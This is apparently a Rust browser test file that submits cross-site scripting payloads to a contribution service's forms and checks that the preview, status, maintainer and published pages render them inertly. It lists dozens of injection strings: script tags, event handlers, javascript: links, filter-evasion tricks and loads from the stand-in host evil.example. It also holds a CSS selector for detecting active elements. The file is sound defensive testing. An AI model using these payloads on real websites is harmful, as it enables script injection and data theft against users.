//! What strangers who mean harm write, in a real browser with JavaScript, on every page that shows it: the form
//! that comes back, the preview, the status page, the maintainer's pages, the published page and the pages that
//! a script makes of it. It stands there as it was typed. The inputs are the worst of those that the service is
//! tried with in `contrib-service/src/app/tests/hostile.rs`; here a browser decides what they mean.

use interlink_tests::browser::{Browser, JavaScript};
use interlink_tests::page_types;
use interlink_tests::service_test::{ServiceTest, TOKEN, id_and_key};
use interlink_tests::site_test::SiteTest;
use serde_json::json;

/// What they want to run: it leaves traces and opens a dialog, at which the driver fails. It has no space, so
/// that it needs no quotation marks in an attribute.
const RUN: &str = "window.hacked=1;document.title='taken';alert(1)";

/// Shown as it was typed.
const MARKUP: &[&str] = &[
    "<script>RUN</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<img src=x onerror=RUN>",
    "<img src=//evil.example/pixel.png>",
    "<img/src=\"x\"/onerror=RUN//",
    "<svg/onload=RUN>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><use href=\"//evil.example/x.svg#x\"/></svg>",
    "<math><mi//xlink:href=\"data:x,<script>RUN</script>\">",
    "<iframe src=javascript:RUN>",
    "<iframe srcdoc=\"<script>parent.hacked=1</script>\">",
    "<object data=javascript:RUN>",
    "<embed src=//evil.example/x>",
    "<a href=javascript:RUN>x</a>",
    "<a href=\"java&#115;cript:RUN\">x</a>",
    "<form action=//evil.example><button>x</form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';body{display:none}</style>",
    "<body onload=RUN>",
    "<details open ontoggle=RUN>",
    "<video><source onerror=RUN>",
    "<input autofocus onfocus=RUN>",
    "</textarea><script>RUN</script>",
    "</title><script>RUN</script>",
    "</script><script>RUN</script>",
    "\"><script>RUN</script>",
    "\" autofocus onfocus=\"RUN",
    "' autofocus onfocus='RUN",
    "--><script>RUN</script><!--",
    "<!--[if gte IE 4]><script>RUN</script><![endif]-->",
    "<![CDATA[<script>RUN</script>]]>",
    "{{ 7*7 }}{% raw %}{{ m }}{% endraw %}",
    "${RUN} #{7*7} <%= 7*7 %>",
    "\u{202e}<script>RUN</script>\u{202c}",
    "＜script＞RUN＜/script＞",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "```\n</code></pre><script>RUN</script>\n```",
    "`<img src=x onerror=RUN>`",
    "\\<script>RUN\\</script>",
];

/// Refused or harmless: what a link or a picture may lead to.
const LINKS: &[&str] = &[
    "[x](javascript:RUN)",
    "[x](JaVaScRiPt:RUN)",
    "[x](javascript&colon;RUN)",
    "[x](data:text/html,<script>RUN</script>)",
    "<javascript:RUN>",
    "[x]: javascript:RUN\n\n[x]",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg/onload=RUN>)",
    "[x](https://ok.example \"onmouseover=RUN\")",
    "[x](https://ok.example\" onmouseover=\"RUN)",
];

/// What a stranger's text could have become: an element or an attribute that acts.
const ACTS: &str = "iframe, object, embed, base, meta[http-equiv=refresh i], animate, video, [action*='evil'], \
                    [href*='evil'], [src*='evil'], [href^='javascript:' i], [href^='data:text/html' i], [onload], \
                    [onerror], [onbegin], [onfocus], [ontoggle], [onmouseover], [srcdoc]";

fn armed(template: &str) -> String {
    template.replace("RUN", RUN)
}

/// What the page that is open does that a page of ours does not.
fn problems(browser: &Browser, own: &str) -> Vec<String> {
    browser
        .wait_until("the page", |browser| browser.run("return document.readyState", json!([])) == "complete");
    let found = browser.run(
        "const found = [...document.querySelectorAll(arguments[0])].map(element => element.outerHTML.slice(0, 200));
         for (const element of document.querySelectorAll('script, style'))
             if (!(element.type ?? '').endsWith('json') && /hacked|evil/.test(element.textContent))
                 found.push(element.outerHTML.slice(0, 200));
         if (typeof window.hacked !== 'undefined') found.push('a script has run');
         if (document.title === 'taken') found.push('a script has changed the title');
         return found;",
        json!([ACTS]),
    );
    let found = found.as_array().expect("the script gives a list").iter().map(ToString::to_string);
    let asked = browser.requests().into_iter().filter(|at| at.starts_with("http") && !at.starts_with(own));
    // Pages with an error status are opened on purpose.
    let said = browser.console().into_iter().filter(|(level, message)| {
        level == "SEVERE" && !message.contains("the server responded with a status of 4")
    });
    let mut problems: Vec<String> = found.collect();
    problems.extend(asked.map(|at| format!("it asks {at}")));
    problems.extend(said.map(|(_, message)| message));
    let address = browser.address();
    if !address.starts_with(own) {
        problems.push(format!("it leads to {address}"));
    }
    problems
}

/// Fills in the form for an Interlinker and sends it: the form again, or the preview.
fn propose(browser: &Browser, service: &ServiceTest, more: &serde_json::Value) {
    browser.open(&service.url("en/contribute/interlinker/"));
    let mut fields = json!({
        "name": "Honest kit",
        "summary": "A kit for deciding together how a street spends its money, in three evenings.",
        "nature": "knowledge",
        "licence": "CC-BY-4.0",
    });
    for (name, value) in more.as_object().expect("fields by their names") {
        fields[name] = value.clone();
    }
    browser.run(
        "const form = document.querySelector('form.propose');
         for (const [name, value] of Object.entries(arguments[0])) {
             const field = form.elements[name];
             field.value = value;
             if (field instanceof Element) field.dispatchEvent(new Event('input', { bubbles: true }));
         }
         form.elements['show-name'].checked = Boolean(arguments[0].contributor);
         form.elements.agree.checked = true;",
        json!([fields]),
    );
    browser.find("form.propose button.btn").click();
    browser.wait_until("an answer", |browser| {
        !browser.find_all("#send").is_empty() || !browser.find_all("#errors").is_empty()
    });
}

#[test]
fn hostile_contributions_do_nothing_in_a_browser() {
    let service = ServiceTest::start_with(SiteTest::from_fixture("base"), &[("INTERLINK_HOLD", "always")]);
    let browser = Browser::start(JavaScript::On);
    let own = service.url("");
    // What a page does that was taken over is seen.
    browser.open("data:text/html,<title>A</title><iframe></iframe><script>window.hacked=1;throw 1</script>");
    let seen = problems(&browser, &own).join("\n");
    for sign in ["iframe", "a script has run", "Uncaught", "it leads to data:"] {
        assert!(seen.contains(sign), "no {sign} in {seen}");
    }
    let expect_nothing = |what: &str| {
        let problems = problems(&browser, &own);
        assert!(problems.is_empty(), "{what}\n{}\n{}", problems.join("\n"), browser.source());
    };

    for link in LINKS.iter().map(|link| armed(link)) {
        propose(&browser, &service, &json!({ "instructions": link }));
        expect_nothing(&link);
    }
    propose(
        &browser,
        &service,
        &json!({ "address": armed("javascript:RUN"), "contact": armed("javascript:RUN") }),
    );
    expect_nothing("an address");

    let text: Vec<String> = MARKUP.iter().map(|markup| armed(markup)).collect();
    let text = text.join("\n\n");
    let hostile = json!({
        "name": armed("<script>RUN</script> kit"),
        "summary": armed("</title><script>RUN</script>\"><img src=x onerror=RUN>{{ 7*7 }}"),
        "description": text,
        "instructions": text,
        "contributor": armed("<img src=x onerror=RUN>"),
    });
    propose(&browser, &service, &hostile);
    assert!(browser.find_all("#errors").is_empty(), "it is refused\n{}", browser.page_text());
    expect_nothing("the preview");
    let shown = browser.page_text();
    assert!(shown.contains("<img src=x onerror=window.hacked=1;document.title="), "{shown}");
    browser.find("#send").click();
    browser.wait_until("the status page", |browser| browser.address().contains("?key="));
    expect_nothing("the status page");
    let status = browser.address().trim_start_matches(&own).to_owned();
    let (id, _) = id_and_key(&status);

    browser.open(&service.url(&format!("maintain?token={TOKEN}")));
    expect_nothing("the maintainer's list");
    for page in [format!("maintain/{id}"), format!("maintain/{id}/preview")] {
        browser.open(&service.url(&page));
        expect_nothing(&page);
    }
    assert_eq!(service.decide(&id, "release", &[]).status, 303);
    service.wait_for_state(&status, "proposed");
    browser.open(&service.url(&format!("maintain/{id}")));
    expect_nothing("the maintainer's page of what is proposed");
    service.publish(&status);
    let slug = service.get_json(&status)["slug"].as_str().unwrap().to_owned();
    service.wait_for_page(&format!("en/interlinkers/{slug}/"), "window.hacked");
    for page in [
        format!("interlinkers/{slug}/"),
        "interlinkers/".to_owned(),
        "search/?q=kit".to_owned(),
        format!("compare/?i={slug},stakeholder-map"),
        format!("collection/?i={slug}"),
    ] {
        page_types::open(&browser, &service.url(&format!("en/{page}")));
        expect_nothing(&page);
    }
    browser.open(&service.url(&status));
    expect_nothing("the status page of what is published");
}
